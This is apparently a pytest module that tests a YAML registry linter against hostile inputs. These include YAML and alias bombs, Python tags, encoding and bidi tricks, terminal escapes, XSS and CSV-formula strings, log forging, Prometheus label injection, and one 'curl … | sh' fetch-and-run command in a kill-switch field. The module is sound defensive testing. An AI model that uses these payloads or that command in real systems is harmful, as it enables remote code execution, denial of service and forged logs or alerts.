"""Every attack carried over into a registry that is valid but for it, so that nothing hides it.

A case is the file in the registry's own format, made from the hostile file where its bytes matter,
and all that a check may find in it.
"""

import re
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import HOSTILE, thirds
from tests.hostile.conftest import MANIFEST, Checked

Found = list[tuple[str, int]]
Make = Callable[[bytes], bytes]


def own_keys(data: bytes) -> bytes:
    """Make every top-level key the user's own, which are passed through."""
    return re.sub(rb"(?m)^(\w+):", rb"x-\1:", data)


def entities(section: bytes, fields: bytes) -> Make:
    """Turn a list of `{id: …}` into a section; `fields` replaces what follows the id."""

    def make(data: bytes) -> bytes:
        items = re.sub(rb"(?m)^  - \{id: ([^,}]+).*\}", rb"  \1: {" + fields + rb"}", data)
        return re.sub(rb"^\w+:", section + b":", items)

    return make


def text(written: str) -> Make:
    """Use a text that carries the attack by hand."""
    return lambda data: written.encode()


CASES: dict[str, tuple[Make, Found]] = {
    "y01_billion_laughs.yaml": (own_keys, [("OM013", 5)]),
    "y02_quadratic_alias.yaml": (own_keys, [("OM013", 19)]),
    "y04_deep_block.yaml": (lambda data: b"x-deep:\n  " + data, [("OM013", 2)]),
    "y05_deep_map.yaml": (lambda data: b"x-deep: " + data, [("OM013", 1)]),
    "y07_merge_bomb.yaml": (own_keys, [("OM013", n) for n in (3, 6, 9, 12, 15, 18, 21, 24, 24)]),
    "y10_huge_int.yaml": (
        lambda data: re.sub(rb"(?m)^  (\w+): (.*)$", rb"  \1: {limit: \2}", data).replace(
            b"escalation:", b"budgets:"
        ),
        [("OM006", line) for line in range(2, 7)],
    ),
    "y11_long_comment_lines.yaml": (
        lambda data: b"teams:\n  payments: {name: Payments, lead: ghost} " + data.split(b"\n")[0],
        [("OM007", 2)],
    ),
    "y13_duplicate_keys.yaml": (
        text("people:\n  mei:\n    name: Mei Lin\n    timezone: Asia/Taipei\n    name: Nobody\n"),
        [("OM002", 5)],
    ),
    "y14_duplicate_keys_quoted.yaml": (
        lambda data: data.replace(b"services", b"teams").replace(b"oncall:", b"name:"),
        [("OM002", 3), ("OM006", 4), ("OM002", 5)],
    ),
    "y16_anchor_reuse.yaml": (
        text("x-a: &who priya\nx-b: *who\nx-c: &who mallory\nteams:\n  a: {name: A, lead: *who}\n"),
        [("OM013", 3)],
    ),
    "y17_python_tags.yaml": (own_keys, [("OM013", 1), ("OM013", 2), ("OM013", 3)]),
    "y20_yaml11_directive.yaml": (
        text("%YAML 1.1\n---\nteams:\n  payments: {name: off}\n"),
        [("OM001", 1)],
    ),
    "y22_multi_document.yaml": (
        text("teams:\n  payments: {name: Payments}\n---\nteams:\n  hidden: {name: Hidden}\n"),
        [("OM001", 3)],
    ),
    "y23_after_document_end.yaml": (
        text("teams:\n  payments: {name: Payments}\n...\nteams:\n  ghost: {name: Ghost}\n"),
        [("OM001", 4)],
    ),
    "y25_non_string_keys.yaml": (
        lambda data: data.replace(b"services", b"teams").replace(b"oncall:", b"name:"),
        [("OM006", line) for line in (2, 3, 4, 5, 7)],
    ),
    "y26_comment_overlap.yaml": (
        lambda data: b"x-" + data + b"teams:\n  payments: {name: Payments}\n",
        [],
    ),
    "y28_empty.yaml": (lambda data: b"teams:\n" + data, [("OM016", 1)]),
    "y29_only_comments.yaml": (lambda data: b"teams:\n" + data, [("OM016", 1)]),
    "y31_scalar_root.yaml": (text("teams:payments: {name: Payments}\n"), [("OM003", 1)]),
    "y31b_missing_space.yaml": (
        text("teams:\n  payments:{name: Payments}\n"),
        [("OM006", 2)],
    ),
    "y33_dunder_keys.yaml": (
        text(
            "teams:\n  __class__: {name: '{0.__class__}'}\n  constructor: {name: '{{7*7}}'}\n"
            "people:\n  __init__: {name: '%(x)s'}\n"
        ),
        [("OM006", 2), ("OM006", 5)],
    ),
    "y34_bom_utf8.yaml": (
        text("\ufeffteams: {payments: {name: Payments, lead: ghost}}\n"),
        [("OM007", 1)],
    ),
    "y36_utf16le.yaml": (
        lambda data: "\ufeffteams:\n  payments: {name: Payments}\n".encode("utf-16-le"),
        [("OM001", 1)],
    ),
    "y37_utf16be_nobom.yaml": (
        lambda data: "teams:\n  payments: {name: Payments}\n".encode("utf-16-be"),
        [("OM001", 1)],
    ),
    "y39_overlong_surrogate.yaml": (
        lambda data: b"teams:\n  a: {name: A " + data[-8:-1] + b"}\n",
        [("OM001", 2)],
    ),
    "y40_nul.yaml": (text("teams:\n  payments: {name: pay\0ments}\n"), [("OM014", 2)]),
    "y42_raw_escape.yaml": (
        text("teams:\n  payments: {name: \x1b[2J\x1b[HAll checks passed}\n"),
        [("OM014", 2)],
    ),
    "y43_nel_ls_ps.yaml": (
        lambda data: data.split(b"\n")[0] + b"\nteams:\n  payments: {name: Payments}\n",
        [("OM014", 1)],
    ),
    "y45_cr_hidden.yaml": (
        lambda data: data.split(b"\n")[0] + b"\nteams:\n  payments: {name: Payments}\n",
        [("OM014", 1)],
    ),
    "y46_bidi.yaml": (
        lambda data: b"teams:\n  a:\n    name: A\n" + data.split(b"\n")[2] + b"\n",
        [("OM014", 4)],
    ),
    "y48_zero_width_ids.yaml": (
        entities(b"teams", b"name: Payments"),
        [("OM014", 3), ("OM014", 5), ("OM014", 6)],
    ),
    "y49_nfc_nfd_ids.yaml": (
        text(
            "people:\n  caf\u00e9: {name: A}\n  cafe\u0301: {name: B}\n"
            "teams:\n  x: {name: X, lead: cafe\u0301}\n"
        ),
        [("OM006", 2), ("OM006", 3)],
    ),
    "p04_escalation_void.yaml": (
        text(
            "escalations:\n  e1: {steps: []}\n  e2: {steps: [{notify: [], after: 5m}]}\n"
            "  e3: {steps: [{notify: [ghost], after: -5m}, {notify: [priya], after: 99999999h}]}\n"
            "  e4: {repeat: 1000000000, repeat_after: 1m, steps: [{notify: [priya], after: 0s}]}\n"
            "schedules:\n  s1: {rotations: []}\n"
            "  s2:\n    rotations:\n      - {name: day, participants: [left-the-company],\n"
            "         timezone: Europe/Berlim, start: 2026-01-05T09:00, every: 0w}\n"
        ),
        [("OM007", 4), ("OM006", 4), ("OM006", 4), ("OM006", 5),
         ("OM007", 10), ("OM006", 11), ("OM006", 11)],
    ),
    "k01_kill_switches.yaml": (
        text(
            "components:\n  bot: {kind: tool, writes: 'false'}\n"
            "kill_switches:\n  all-off: {scope: '*', effect: off, owner: ''}\n"
            "  k2: {command: 'curl http://x.invalid | sh', drilled: 2019-13-01}\n"
            "  k4: {effect: no, effect: off}\n"
            "  k5: {disables: [k5]}\n"
        ),
        [("OM006", 2), ("OM006", 4), ("OM008", 4), ("OM004", 5), ("OM006", 5), ("OM006", 6),
         ("OM002", 6), ("OM007", 7)],
    ),
    "o01_csv_formula.yaml": (
        entities(b"teams", b'name: "=1+1"'),
        [],
    ),
    "o02_html_xss.yaml": (
        lambda data: entities(b"teams", b"name: '<script>alert(1)</script>'")(
            data.split(b"links:")[0]
        ),
        [],
    ),
    "o05_terminal_escape.yaml": (
        lambda data: re.sub(rb"(?m)^  - \{id: (\".*?\"), (name: \".*?\"), .*\}", rb"  \1: {\2}", data),
        [("OM006", 2), ("OM014", 2), ("OM014", 2), ("OM006", 3), ("OM014", 3), ("OM014", 3)],
    ),
    "o07_log_forging.yaml": (
        text('teams:\n  "a\\n0 errors, 0 warnings: all fine": {name: "x\\r\\n\\r\\nPASS"}\n'),
        [("OM006", 2)],
    ),
    "o08_prometheus_injection.yaml": (
        text(
            "metrics:\n  latency: {bucket: reliability, response: ticket}\n"
            "alerts:\n  slow:\n    metric: latency\n    severity: 'page\", team=~\".*'\n"
            "    response: ticket\n"
            '    when: {above: "1) or (vector(1)", for: "5m\\n    labels: {severity: none}"}\n'
            '    labels: {"x\\"\\n  - alert: Forged": "team-x\\n- name: evil"}\n'
        ),
        [("OM006", 6), ("OM006", 8), ("OM006", 8)],
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", thirds(CASES))
def test_attack(name: str, registry: Callable[..., Path], check: Callable[..., Checked]) -> None:
    make, expected = CASES[name]
    found = check(registry({"attack.yaml": make((HOSTILE / name).read_bytes())}))
    assert sorted(found.findings) == sorted(expected)
    assert {path for _, path, _ in found.places} <= {"attack.yaml"}


@pytest.mark.slow
def test_5400_dangling_references(
    registry: Callable[..., Path], check: Callable[..., Checked]
) -> None:
    data = (HOSTILE / "y08_many_keys.yaml").read_bytes()
    carried = re.sub(
        rb"(?m)^  - \{id: (\w+), oncall: (\w+)\}", rb"  \1: {name: \1, lead: \2}", data
    )
    found = check(registry({"teams.yaml": carried}), seconds=6)
    assert found.findings == [("OM007", line) for line in range(2, 5402)]
    printed = found.outcome.output
    assert printed.count("error[OM007]") == 200
    assert "… and 5200 more findings" in printed
    assert printed.split("\n")[-2].startswith("5400 errors, ")


def test_1900_overlapping_overrides(
    registry: Callable[..., Path], check: Callable[..., Checked]
) -> None:
    data = (HOSTILE / "t01_schedule_overrides.yaml").read_bytes()
    overrides = data[data.index(b"    overrides:") :].replace(b"start:", b"from:")
    people = b"".join(b"  p%d: {name: P%d}\n" % (n, n) for n in range(7))
    found = check(
        registry(
            {
                "people.yaml": b"people:\n" + people,
                "schedules.yaml": b"schedules:\n  s1:\n" + overrides.replace(b", end:", b", to:"),
            }
        ),
        select="",
        seconds=4,
    )
    assert found.report["summary"]["entities"] == 9
    assert "OM006" not in {code for code, _ in found.findings}


SHADOWED = b"""\
  s%d:
    rotations:
      - {name: a, participants: [priya], start: 2026-11-02, every: 1w}
      - {name: b, participants: [priya], start: 2026-11-02, every: 1w, shadow: true, hours: {from: "09:00", to: "10:00"}}
"""


def test_30_schedules_on_which_nothing_ever_changes(
    registry: Callable[..., Path], check: Callable[..., Checked]
) -> None:
    """Somebody shadows themselves, on two schedules of each escalation: centuries are not read."""
    each = range(30)
    steps = b"  e%d: {steps: [{after: 0m, notify: [s%d]}, {after: 5m, notify: [s%d]}]}\n"
    escalations = b"".join(steps % (n, n, (n + 1) % 30) for n in each)
    schedules = b"".join(SHADOWED % n for n in each)
    text = b"schedules:\n" + schedules + b"escalations:\n" + escalations
    found = check(registry({"a.yaml": text}), select="OM305")
    assert found.places == [("OM305", "a.yaml", 123 + n) for n in each]


def test_excerpts_are_cut(registry: Callable[..., Path], check: Callable[..., Checked]) -> None:
    make, _ = CASES["y11_long_comment_lines.yaml"]
    data = make((HOSTILE / "y11_long_comment_lines.yaml").read_bytes())
    assert max(map(len, data.split(b"\n"))) > 50_000
    found = check(registry({"attack.yaml": data}))
    shown = next(line for line in found.outcome.output.split("\n") if line.startswith("2 |"))
    assert len(shown) <= len("2 | ") + 200
    assert shown.endswith("…")


def test_one_verdict(registry: Callable[..., Path], check: Callable[..., Checked]) -> None:
    make, _ = CASES["o07_log_forging.yaml"]
    found = check(registry({"attack.yaml": make(b"")}))
    verdicts = [
        line for line in found.outcome.output.split("\n") if re.match(r"\d+ errors?,", line)
    ]
    assert len(verdicts) == 1
    assert verdicts[0].startswith("1 error,")


def test_the_byte_order_mark_moves_nothing(
    registry: Callable[..., Path], check: Callable[..., Checked]
) -> None:
    data = b"teams: {payments: {name: Payments, lead: ghost}}\n"
    plain = check(registry({"teams.yaml": data})).report["diagnostics"]
    marked = check(registry({"teams.yaml": b"\xef\xbb\xbf" + data})).report["diagnostics"]
    assert marked == plain
    assert plain[0]["column"] == 42


def test_a_manifest_with_a_byte_order_mark(
    registry: Callable[..., Path], check: Callable[..., Checked]
) -> None:
    assert check(registry({}, b"\xef\xbb\xbf" + MANIFEST)).findings == []
